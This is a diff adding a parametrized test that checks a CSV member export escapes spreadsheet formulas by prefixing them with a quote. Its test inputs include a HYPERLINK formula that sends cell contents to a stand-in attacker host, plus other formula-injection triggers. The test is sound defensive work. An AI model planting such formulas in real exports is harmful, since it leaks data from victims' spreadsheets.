@@ -74,6 +74,29 @@ def test_csv_export(staff, people):
     assert "Newsletter" in rows[0]
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        "+SUM(1+1)",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_export_keeps_formulas_as_text(staff, membership_types, name):
+    MemberFactory(name=name, email="formula@example.org", postal_address="=1+1")
+
+    response = staff.get(INDEX, {"export": "csv"})
+
+    body = b"".join(response.streaming_content).decode()
+    [row] = list(csv.DictReader(io.StringIO(body)))
+    assert row["Name"] == "'" + name
+    assert row["Postal address"] == "'=1+1"
+    assert row["Email"] == "formula@example.org"
+
+
 def test_approve_confirmed_member(staff, people):
     member = people["confirmed"]
     url = f"{INDEX}approve/{member.pk}/"
